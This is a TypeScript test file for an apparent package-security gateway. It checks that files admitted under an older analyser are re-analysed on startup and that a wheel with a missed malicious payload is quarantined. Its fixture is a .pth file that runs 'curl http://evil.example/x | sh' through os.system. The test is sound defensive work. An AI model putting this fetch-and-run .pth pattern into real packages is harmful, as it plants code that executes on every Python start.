/**
 * A detection fix reaches files admitted before it: reports an older analyser made are made again
 * from the stored bytes when a gateway starts (and a file is never served on an old report
 * meanwhile). The "old analyser" is simulated by rewriting the stored report the way an analyser
 * that missed the payload would have written it (SQLite and PostgreSQL).
 */
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { connectDatabase } from "../../src/adapters/db/connect-database.js";
import { DecisionRepository } from "../../src/adapters/db/decision-repository.js";
import { ANALYSER_VERSION, type StoredArtifactReport } from "../../src/services/artifact-analysis.js";
import { DIALECTS, dialectSkip, gatewayDatabase } from "../helpers/databases.js";
import { startJsonIndexServer } from "../helpers/upstream-server.js";
import { startTestGateway, type TestGateway } from "../helpers/test-gateway.js";
import { buildWheel } from "../helpers/wheel-builder.js";

const PAYLOAD = "import os; os.system('curl http://evil.example/x | sh')\n";

/** Rewrites the stored report as an analyser blind to the payload made it, and admits the file. */
async function pretendOldAnalyser(dataDir: string, url: string, sha256: string): Promise<void> {
  const handle = await connectDatabase({ url, dataDir });
  try {
    const decisions = new DecisionRepository(handle.db);
    const report = await decisions.getArtifactReport<StoredArtifactReport>(sha256);
    assert.ok(report, "the gateway stored a report of the file");
    const { analyser: _v, ...old } = report;
    old.artifact = { ...old.artifact, findings: [] };
    await decisions.putArtifactReport(
      sha256,
      old.facts.project,
      old.facts.version,
      old,
      new Date().toISOString(),
    );
    const decision = await decisions.get(sha256);
    assert.ok(decision, "a decision was stored");
    await decisions.put({ ...decision, outcome: "admitted", score: 0, reasons: [] });
    await decisions.setAnalyserLevel(1);
  } finally {
    await handle.close();
  }
}

async function reportOf(
  dataDir: string,
  url: string,
  sha256: string,
): Promise<StoredArtifactReport | undefined> {
  const handle = await connectDatabase({ url, dataDir });
  try {
    return await new DecisionRepository(handle.db).getArtifactReport<StoredArtifactReport>(sha256);
  } finally {
    await handle.close();
  }
}

async function analyserLevel(dataDir: string, url: string): Promise<number> {
  const handle = await connectDatabase({ url, dataDir });
  try {
    return await new DecisionRepository(handle.db).analyserLevel();
  } finally {
    await handle.close();
  }
}

for (const dialect of DIALECTS) {
  const skip = await dialectSkip(dialect);
  describe(`stored analyses are brought up to the current analyser (${dialect})`, { skip }, () => {
    test("a payload an older analyser missed is refused after the upgrade; a file whose bytes are elsewhere keeps its decision until it is analysed again", async () => {
      const bad = await buildWheel({
        name: "sleeper",
        version: "1.0",
        files: { "sleeper/__init__.py": "", "sleeper_init.pth": PAYLOAD },
      });
      const clean = await buildWheel({ name: "plain", version: "1.0" });
      const upstream = await startJsonIndexServer({
        projects: {
          sleeper: { files: [{ filename: bad.filename, bytes: bad.bytes }] },
          plain: { files: [{ filename: clean.filename, bytes: clean.bytes }] },
        },
      });
      const dataDir = mkdtempSync(join(tmpdir(), "portcullis-upgrade-"));
      const database = await gatewayDatabase(dialect);
      let gw: TestGateway | undefined;
      const download = async (project: string, w: { sha256: string; filename: string }) => {
        await fetch(`${gw!.url}/simple/${project}/`);
        return fetch(`${gw!.url}/files/${w.sha256}/${w.filename}`);
      };
      try {
        const start = () =>
          startTestGateway({ upstream: upstream.simpleUrl, data: dataDir, database: database.url });
        gw = await start();
        assert.equal((await download("sleeper", bad)).status, 403, "today's analyser finds the .pth");
        assert.equal((await download("plain", clean)).status, 200);
        await gw.close();

        await pretendOldAnalyser(dataDir, database.url, bad.sha256);
        await pretendOldAnalyser(dataDir, database.url, clean.sha256);
        // The clean file's bytes are gone from this gateway's store.
        rmSync(join(dataDir, "blobs"), { recursive: true, force: true });

        gw = await start();
        const refused = await download("sleeper", bad);
        assert.equal(refused.status, 403, "never served on the old report, even before the upgrade ends");
        // The background upgrade re-analyses what this gateway holds.
        const analyserOf = (sha256: string) =>
          reportOf(dataDir, database.url, sha256).then((r) => r?.analyser);
        for (let i = 0; i < 200 && (await analyserOf(bad.sha256)) !== ANALYSER_VERSION; i++)
          await new Promise((resolve) => setTimeout(resolve, 25));
        assert.equal(await analyserOf(bad.sha256), ANALYSER_VERSION, "re-analysed from the stored bytes");
        const decision = (await (await fetch(`${gw.url}/api/v1/decisions/${bad.sha256}`)).json()) as {
          outcome: string;
          reasons: { check: string; outcome: string }[];
        };
        assert.equal(decision.outcome, "quarantined", JSON.stringify(decision));
        assert.ok(
          decision.reasons.some((r) => r.check === "artifact" && r.outcome === "fail"),
          `the artifact check refuses it again: ${JSON.stringify(decision.reasons)}`,
        );
        // The clean file's bytes are not here (another instance's store, say): its report and
        // decision are left for whoever holds them, and the level is not claimed as reached.
        assert.deepEqual(
          await gw.gateway.policy.upgradeAnalyses((sha256) => gw!.gateway.services.blobs.localPath(sha256)),
          { reanalysed: 0, left: 1 },
          "another run finds only the file whose bytes are not here",
        );
        assert.equal(await analyserOf(clean.sha256), undefined, "left as it was");
        assert.equal(await analyserLevel(dataDir, database.url), 1, "not every report is current yet");
        const decided = await fetch(`${gw.url}/api/v1/decisions/${clean.sha256}`);
        assert.equal(decided.status, 200, "its decision is kept (who-has, SBOMs, scans still see it)");
        // Downloaded again: fetched, re-analysed before it is served.
        assert.equal((await download("plain", clean)).status, 200);
        assert.equal(await analyserOf(clean.sha256), ANALYSER_VERSION, "analysed again before serving");
      } finally {
        await gw?.close();
        await upstream.close();
        await database.drop();
        rmSync(dataDir, { recursive: true, force: true });
      }
    });
  });
}
